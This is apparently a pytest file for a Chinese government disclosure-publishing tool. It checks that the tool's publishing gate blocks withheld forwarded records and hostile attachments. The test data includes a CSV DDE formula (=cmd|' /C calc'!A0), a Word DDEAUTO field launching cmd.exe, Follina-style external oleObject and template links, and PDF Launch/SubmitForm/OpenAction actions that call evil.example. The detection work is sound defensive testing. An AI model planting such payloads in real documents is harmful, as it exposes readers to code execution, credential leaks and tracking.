"""Hostile pass 37 (thirty-ninth session), 「gate attack」: the attacker and the careless clerk against the publishing
gate (issue 11: nothing private or hostile leaves the building), where the earlier passes had not looked.

Each test runs the real CLI on a small catalog in tmp_path; the expected values are typed by hand. Today is
conftest's day, 2026-11-27.

Found by this pass (before the fix → now):
1. A 转发件 marked 主动公开 whose original is 依申请公开 or 不予公开 (the clerk marks the covering letter 主动公开, as
   most are): validate said GK306, and build-site, the portal export, print and the 两馆's handover published it all the
   same — the letter, and the forwarded document it attaches, went out, though a 转发 document has the attribute of
   the one it forwards (DOMAIN.md §4). Now the gate holds it back (along a chain of 转发 too: A forwards B, which
   forwards C), says why (「它转发的原文件 R2026-002 是「不予公开」……」), and the incremental build agrees with a
   whole one when only the original's attribute changes.
2. A CSV attachment whose first line is Excel's 「sep=;」 (exports meant for Excel write it; Excel takes the rest as
   split by 「;」 and does not show the line): gongkai read it by commas, so a cell after a 「;」 was no cell to it —
   =1380595*10000+1234 (Excel shows 13805951234) and the DDE formula =cmd|' /C calc'!A0 (Excel offers to run the
   program) passed validate and were published; a 名单 so written was no table, so no list of people (indexed by
   search, never taken down). Now the one CSV reader (privacy.extract.csv_readings) reads it as Excel does, and by
   commas too (what a program without the line shows); `gongkai mask` masks Excel's cells and keeps the line.
3. A Word or Excel attachment that loads something from another computer as it opens — a relationship with
   TargetMode="External" to a template on a share (\\\\host\\share\\t.dotm: the reader's Windows login goes to
   that host), an object on a web server (http://…/x.html!, the Follina attack), a picture (every reader counted): the
   gate read its parts for words and published it; a PDF with a script it refused. Now GK610 names the part, the
   address and what to do (privacy.fetched); a link the reader clicks and a path on the clerk's own disk
   (file:///D:/模板/公文.dotx, which Word notes for a 公文 made from a template) are left alone.
4. The same for a PDF's actions: one that runs a program (/Launch cmd.exe), sends or loads form data (/SubmitForm,
   /ImportData), opens a file on a share (/GoToR \\\\host\\share\\x.pdf), or an address as the file opens, without a
   click (/OpenAction /URI: every reader counted) — published, where a script (/JavaScript) was refused. Now GK610
   says which action; a link the reader clicks and a /GoToR to a file beside it are left alone.
5. And for Word's fields: DDEAUTO (the 2017 attack: cmd.exe started from a document without a macro, the code split
   over runs as Word writes it) and INCLUDEPICTURE / INCLUDETEXT / LINK naming an address on another computer — now
   GK610 naming the field; a picture field naming the clerk's own disk and a HYPERLINK field are left alone.
"""

from __future__ import annotations

import io
import zipfile
from pathlib import Path

import pytest

from conftest import ITEM, RECORD, CatalogDir, text_pdf
from test_publication import everything, files

POLICY_ITEM = ITEM.replace("低保对象名单及相关信息", "社会救助政策文件")

ORIGINAL = """\
编号: R2026-002
题名: 测试县民政局关于社会救助内部审核流程的通知
文号: 测民〔2026〕2号
文种: 通知
责任单位: shjzg
事项: SHJZ-001
公开属性: 不予公开
不予公开理由: 内部事务信息
成文日期: 2026-09-01
附件:
  - 文件: files/2026/neibu.pdf
    名称: 内部审核流程
"""

FORWARD = """\
编号: R2026-001
题名: 测试县民政局转发关于社会救助内部审核流程的通知
文号: 测民〔2026〕5号
索引号: 350524-MZ-2026-00001
文种: 通知
责任单位: shjzg
事项: SHJZ-001
公开属性: 主动公开
保密审查:
  审查人: 张三
  审查日期: 2026-09-01
  结论: 不涉及国家秘密，同意主动公开
成文日期: 2026-09-01
公开日期: 2026-09-03
转发: R2026-002
附件:
  - 文件: files/2026/zhuanfa.pdf
    名称: 内部审核流程
正文: |
  现将《关于社会救助内部审核流程的通知》转发给你们，请认真贯彻执行。
"""

SECRET = "NEIBU SHENHE LIUCHENG"


def forwarding(cat: CatalogDir, original: str = ORIGINAL) -> None:
    """A 转发件 (R2026-001, 主动公开) of *original* (R2026-002), attaching its own copy of the forwarded text."""
    cat.item(POLICY_ITEM)
    cat.record(FORWARD)
    cat.record(original, "records/2026/R2026-002.yaml")
    cat.write("files/2026/neibu.pdf", text_pdf(SECRET))
    cat.write("files/2026/zhuanfa.pdf", text_pdf(SECRET, "ZHUANFA"))  # its own copy: not the same bytes


def built(gk, cat: CatalogDir, out: Path, *args: str):
    run = gk("build-site", cat.root, "--out", out, *args)
    assert run.code == 0, run.out + run.err
    return run


def test_a_forward_of_a_withheld_record_is_not_published(gk, cat, tmp_path):
    forwarding(cat)
    run = built(gk, cat, tmp_path / "site")
    text = everything(tmp_path / "site")
    assert "R2026-001" not in text and "转发关于社会救助内部审核流程" not in text and SECRET not in text
    assert not (tmp_path / "site/files/2026/zhuanfa.pdf").exists()
    assert ("R2026-001 没有发布：它转发的原文件 R2026-002 是「不予公开」：转发件的公开属性随原文件（GK306），不能主动公开"
            in run.err + run.out)


def test_a_forward_of_a_record_on_request_is_not_published(gk, cat, tmp_path):
    forwarding(cat, ORIGINAL.replace("公开属性: 不予公开\n不予公开理由: 内部事务信息\n", "公开属性: 依申请公开\n"))
    run = built(gk, cat, tmp_path / "site")
    assert not (tmp_path / "site/records/R2026-001.html").exists()
    assert "它转发的原文件 R2026-002 是「依申请公开」" in run.err + run.out


def test_a_forward_of_a_forward_of_a_withheld_record_is_not_published(gk, cat, tmp_path):
    forwarding(cat, ORIGINAL.replace("R2026-002", "R2026-003"))  # R2026-003: 不予公开
    cat.write("records/2026/R2026-003.yaml", ORIGINAL.replace("R2026-002", "R2026-003"))
    middle = FORWARD.replace("R2026-001", "R2026-002").replace("转发: R2026-002", "转发: R2026-003").replace(
        "00001", "00002").replace("5号", "6号").replace("zhuanfa.pdf", "zhuanfa2.pdf")
    cat.record(middle, "records/2026/R2026-002.yaml")
    cat.write("files/2026/zhuanfa2.pdf", text_pdf(SECRET, "ZHUANFA 2"))
    run = built(gk, cat, tmp_path / "site")
    assert not (tmp_path / "site/records/R2026-001.html").exists()
    assert not (tmp_path / "site/records/R2026-002.html").exists()
    assert "它转发的原文件 R2026-003（经 R2026-002 转发） 是「不予公开」" in run.err + run.out


def test_a_forward_of_a_public_record_is_published(gk, cat, tmp_path):
    public = FORWARD.replace("R2026-001", "R2026-002").replace("转发: R2026-002\n", "").replace(
        "00001", "00002").replace("5号", "2号").replace("zhuanfa.pdf", "neibu.pdf")
    forwarding(cat, public)
    built(gk, cat, tmp_path / "site")
    assert (tmp_path / "site/records/R2026-001.html").is_file()
    assert (tmp_path / "site/files/2026/zhuanfa.pdf").is_file()


def test_the_incremental_build_follows_the_original_s_attribute(gk, cat, tmp_path):
    """Only the original's file changes: the 转发件's remembered outcome must not stand."""
    public = FORWARD.replace("R2026-001", "R2026-002").replace("转发: R2026-002\n", "").replace(
        "00001", "00002").replace("5号", "2号").replace("zhuanfa.pdf", "neibu.pdf")
    forwarding(cat, public)
    site = tmp_path / "site"
    built(gk, cat, site)
    assert (site / "records/R2026-001.html").is_file()
    cat.record(ORIGINAL, "records/2026/R2026-002.yaml")  # now 不予公开
    built(gk, cat, site)
    assert not (site / "records/R2026-001.html").exists() and not (site / "files/2026/zhuanfa.pdf").exists()
    built(gk, cat, tmp_path / "whole", "--no-cache")
    assert files(site) == files(tmp_path / "whole")


def test_the_portal_export_leaves_it_out_too(gk, cat, tmp_path):
    forwarding(cat)
    run = gk("export", "portal", cat.root, "--out", tmp_path / "portal")
    assert run.code == 0, run.out + run.err
    exported = everything(tmp_path / "portal")
    assert "R2026-001" not in exported and SECRET not in exported


NOTICE = RECORD.replace("文种: 公示", "文种: 通知").replace("公示截止: 2026-12-31\n", "").replace(
    "题名: 测试县民政局关于2026年第三季度低保对象名单的公示", "题名: 测试县民政局关于社会救助办理事项的通知").replace(
    "正文:", "附件:\n  - 文件: files/2026/banli.csv\n    名称: 办理事项\n正文:")


def attaching(cat: CatalogDir, csv_text: str) -> None:
    """A 通知 (R2026-001, of an item that lists nobody) attaching files/2026/banli.csv holding *csv_text* (UTF-8)."""
    cat.item(POLICY_ITEM)
    cat.record(NOTICE)
    cat.write("files/2026/banli.csv", csv_text.encode("utf-8"))


def gk6(run) -> list[str]:
    return [line.strip() for line in run.out.splitlines() if " GK6" in line]


def test_a_formula_after_excel_s_sep_line_is_computed(gk, cat, tmp_path):
    attaching(cat, "sep=;\r\n项目;说明\r\n咨询;=1380595*10000+1234\r\n")
    run = gk("validate", cat.root)
    assert run.code == 1
    assert gk6(run) == ["17:9 错误 GK602 附件「files/2026/banli.csv」 第1行第2列（说明）（公式计算结果）有未遮盖的手机号码"
                        "「138****1234」（已遮盖显示）［R2026-001］"]
    built(gk, cat, tmp_path / "site")
    assert not (tmp_path / "site/files/2026/banli.csv").exists()
    assert not (tmp_path / "site/records/R2026-001.html").exists()


@pytest.mark.parametrize(("line", "delimiter"), [("sep=;", ";"), ("SEP=;", ";"), ("sep=\t", "\t")])
def test_a_dde_formula_after_excel_s_sep_line_is_not_published(gk, cat, line, delimiter):
    attaching(cat, f"{line}\n项目{delimiter}说明\n办理{delimiter}=cmd|' /C calc'!A0\n")
    run = gk("validate", cat.root)
    assert run.code == 1
    assert len(gk6(run)) == 1 and gk6(run)[0].startswith("17:9 错误 GK610 附件「files/2026/banli.csv」无法")
    assert "的公式「=cmd|' /C calc'!A0」gongkai 不能计算" in run.out


def test_the_file_read_by_commas_is_still_read(gk, cat):
    """Excel shows 「x,=…」 as text; a program that knows no sep= line shows the formula after the comma."""
    attaching(cat, "sep=;\n项目;说明\n咨询;x,=1380595*10000+1234\n")
    run = gk("validate", cat.root)
    assert run.code == 1
    assert gk6(run) == ["17:9 错误 GK602 附件「files/2026/banli.csv」（按逗号分列） 第2行第2列（公式计算结果）有未遮盖的"
                        "手机号码「138****1234」（已遮盖显示）［R2026-001］"]


def test_a_list_of_people_after_excel_s_sep_line_is_a_list(gk, cat):
    attaching(cat, "sep=;\n序号;姓名;保障金额\n1;陈水生;500\n2;林阿妹;600\n3;王建国;700\n")
    run = gk("validate", cat.root)
    assert run.code == 1 and "GK611" in run.out


def test_an_ordinary_csv_is_published(gk, cat, tmp_path):
    attaching(cat, "sep=;\n项目;说明\n咨询;工作日上午8:00—12:00\n")
    assert gk("validate", cat.root).code == 0
    built(gk, cat, tmp_path / "site")
    assert (tmp_path / "site/files/2026/banli.csv").is_file()


def test_mask_keeps_excel_s_sep_line(gk, tmp_path):
    table = tmp_path / "名单.csv"
    table.write_bytes("sep=;\r\n姓名;身份证号;联系电话\r\n陈*生;350524198503151236;13805951234\r\n".encode("utf-8"))
    run = gk("mask", table)
    assert run.code == 0, run.out + run.err
    assert table.read_bytes().decode("utf-8") == ("sep=;\r\n姓名;身份证号;联系电话\r\n"
                                                   "陈*生;35*************236;138****1234\r\n")


WORD = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
TYPES = ('<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>')
RELATIONSHIPS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def relationships(*links: tuple[str, str]) -> str:
    """A .rels part: one external relationship per (type, target)."""
    return ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
            '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
            + "".join(f'<Relationship Id="rId{n}" Type="{RELATIONSHIPS}/{kind}" Target="{target}" '
                      'TargetMode="External"/>' for n, (kind, target) in enumerate(links, 1))
            + "</Relationships>")


def package(**parts: str | bytes) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in parts.items():
            archive.writestr(name, data)
    return buffer.getvalue()


def word(**parts: str | bytes) -> bytes:
    """A Word document saying 通知正文, with *parts* (by their names in the package) besides."""
    body = f"<w:document {WORD}><w:body><w:p><w:r><w:t>通知正文</w:t></w:r></w:p></w:body></w:document>"
    return package(**{"[Content_Types].xml": TYPES, "word/document.xml": body, **parts})


def attaching_file(cat: CatalogDir, name: str, data: bytes) -> None:
    cat.item(POLICY_ITEM)
    cat.record(NOTICE.replace("files/2026/banli.csv", f"files/2026/{name}"))
    cat.write(f"files/2026/{name}", data)


FETCHING = {
    "template on a share": ("settings.xml.rels", "attachedTemplate", "\\\\evil.example\\share\\t.dotm", "模板"),
    "Follina": ("document.xml.rels", "oleObject", "http://evil.example/x.html!", "嵌入对象"),
    "counted picture": ("footer1.xml.rels", "image", "https://evil.example/t.png", "图片"),
    "file: on a host": ("document.xml.rels", "image", "file://evil.example/share/t.png", "图片"),
}


@pytest.mark.parametrize("case", sorted(FETCHING))
def test_a_word_document_loading_from_another_computer_is_not_published(gk, cat, tmp_path, case):
    rels, kind, target, what = FETCHING[case]
    attaching_file(cat, "tongzhi.docx", word(**{f"word/_rels/{rels}": relationships((kind, target))}))
    run = gk("validate", cat.root)
    assert run.code == 1
    assert gk6(run)[0].startswith(f"17:9 错误 GK610 附件「files/2026/tongzhi.docx」无法读取：文档的「word/_rels/{rels}」"
                                  f"让 Word、Excel 打开文件时从文件以外的地址「{target}」载入{what}：")
    built(gk, cat, tmp_path / "site")
    assert not (tmp_path / "site/files/2026/tongzhi.docx").exists()


def test_a_workbook_s_linked_picture_and_an_embedded_document_s_template_are_found(gk, cat):
    book = package(**{"[Content_Types].xml": TYPES, "xl/workbook.xml": "<workbook/>",
                      "xl/drawings/_rels/drawing1.xml.rels": relationships(("image", "http://evil.example/p.png"))})
    attaching_file(cat, "biao.xlsx", book)
    run = gk("validate", cat.root)
    assert run.code == 1 and "「xl/drawings/_rels/drawing1.xml.rels」" in run.out
    assert "「http://evil.example/p.png」载入图片" in run.out
    inner = word(**{"word/_rels/settings.xml.rels": relationships(("attachedTemplate", "//evil.example/t.dotm"))})
    attaching_file(cat, "tongzhi.docx", word(**{"word/embeddings/Microsoft_Word_Document.docx": inner}))
    run = gk("validate", cat.root)
    assert run.code == 1 and "「//evil.example/t.dotm」载入模板" in run.out


def test_a_clicked_link_and_the_clerk_s_own_template_are_published(gk, cat, tmp_path):
    attaching_file(cat, "tongzhi.docx", word(**{
        "word/_rels/settings.xml.rels": relationships(("attachedTemplate", "file:///D:/模板/公文.dotx")),
        "word/_rels/document.xml.rels": relationships(("hyperlink", "https://www.gov.cn/zhengce/"),
                                                      ("image", "file:///C:/Users/hlx/Pictures/seal.png"))}))
    run = gk("validate", cat.root)
    assert run.code == 0, run.out
    built(gk, cat, tmp_path / "site")
    assert (tmp_path / "site/files/2026/tongzhi.docx").is_file()


PDF = text_pdf("Tongzhi zhengwen")
OPENS = b"<< /Type /Catalog /Pages 2 0 R >>"


def acting(action: bytes) -> bytes:
    """The PDF, doing *action* as it opens (the document's /OpenAction)."""
    assert OPENS in PDF
    return PDF.replace(OPENS, b"<< /Type /Catalog /Pages 2 0 R /OpenAction " + action + b" >>")


ACTIONS = {
    "runs a program": (b"<< /S /Launch /Win << /F (cmd.exe) /P (/c calc) >> >>", "PDF 中有运行电脑上的程序的动作（Launch）"),
    "visits as it opens": (b"<< /S /GoTo /D [3 0 R /Fit] /Next << /S /URI /URI (http://evil.example/t) >> >>",
                           "PDF 一打开就访问地址「http://evil.example/t」（不经读者点击）"),
    "opens a share": (b"<< /S /GoToR /F (//evil.example/share/x.pdf) /D [0 /Fit] >>",
                      "PDF 中有打开另一台电脑上的文件「//evil.example/share/x.pdf」的动作"),
    "sends the form": (b"<< /S /SubmitForm /F << /FS /URL /F (http://evil.example/s) >> >>",
                       "PDF 中有把表单中填写的内容发送到别处的动作（SubmitForm）"),
}


@pytest.mark.parametrize("case", sorted(ACTIONS))
def test_a_pdf_that_runs_or_fetches_something_is_not_published(gk, cat, tmp_path, case):
    action, said = ACTIONS[case]
    attaching_file(cat, "tongzhi.pdf", acting(action))
    run = gk("validate", cat.root)
    assert run.code == 1
    assert gk6(run)[0].startswith(f"17:9 错误 GK610 附件「files/2026/tongzhi.pdf」无法读取：{said}，不能公开；")
    built(gk, cat, tmp_path / "site")
    assert not (tmp_path / "site/files/2026/tongzhi.pdf").exists()


def test_a_pdf_s_clicked_link_and_a_link_to_the_file_beside_it_are_published(gk, cat, tmp_path):
    page = b"/MediaBox [0 0 612 792] "
    assert page in PDF
    linked = acting(b"<< /S /GoToR /F (fujian2.pdf) /D [0 /Fit] >>").replace(page, page + (
        b"/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 100 20] /A << /S /URI /URI (https://www.gov.cn/) >> >>] "))
    attaching_file(cat, "tongzhi.pdf", linked)
    run = gk("validate", cat.root)
    assert run.code == 0, run.out
    built(gk, cat, tmp_path / "site")
    assert (tmp_path / "site/files/2026/tongzhi.pdf").is_file()


def fielded(*codes: str) -> bytes:
    """A Word document whose one field has its code in *codes*, one run each (as Word splits a code it edits)."""
    runs = "".join(f'<w:r><w:instrText xml:space="preserve">{code}</w:instrText></w:r>' for code in codes)
    field = (f'<w:r><w:fldChar w:fldCharType="begin"/></w:r>{runs}<w:r><w:fldChar w:fldCharType="separate"/></w:r>'
             '<w:r><w:t>见上</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r>')
    body = f"<w:document {WORD}><w:body><w:p><w:r><w:t>通知正文</w:t></w:r>{field}</w:p></w:body></w:document>"
    return package(**{"[Content_Types].xml": TYPES, "word/document.xml": body})


def test_a_word_field_that_starts_a_program_or_loads_from_elsewhere_is_not_published(gk, cat, tmp_path):
    attaching_file(cat, "tongzhi.docx", fielded(" DDE", 'AUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc.exe" '))
    run = gk("validate", cat.root)
    assert run.code == 1
    assert gk6(run)[0].startswith("17:9 错误 GK610 附件「files/2026/tongzhi.docx」无法读取：文档的「word/document.xml」"
                                  "中有 DDEAUTO 域「DDEAUTO c:")
    built(gk, cat, tmp_path / "site")
    assert not (tmp_path / "site/files/2026/tongzhi.docx").exists()
    attaching_file(cat, "tongzhi.docx", fielded(' INCLUDEPICTURE "http://evil.example/t.png" \\d '))
    run = gk("validate", cat.root)
    assert run.code == 1
    assert ("文档的「word/document.xml」中的 INCLUDEPICTURE 域让 Word 从文件以外的地址「http://evil.example/t.png」载入图片"
            in run.out)


def test_a_picture_field_on_the_clerk_s_disk_and_a_hyperlink_field_are_published(gk, cat):
    attaching_file(cat, "tongzhi.docx", fielded(' INCLUDEPICTURE "D:\\\\图片\\\\章.png" \\d '))
    assert gk("validate", cat.root).code == 0
    attaching_file(cat, "tongzhi.docx", fielded(' HYPERLINK "https://www.gov.cn/" '))
    assert gk("validate", cat.root).code == 0
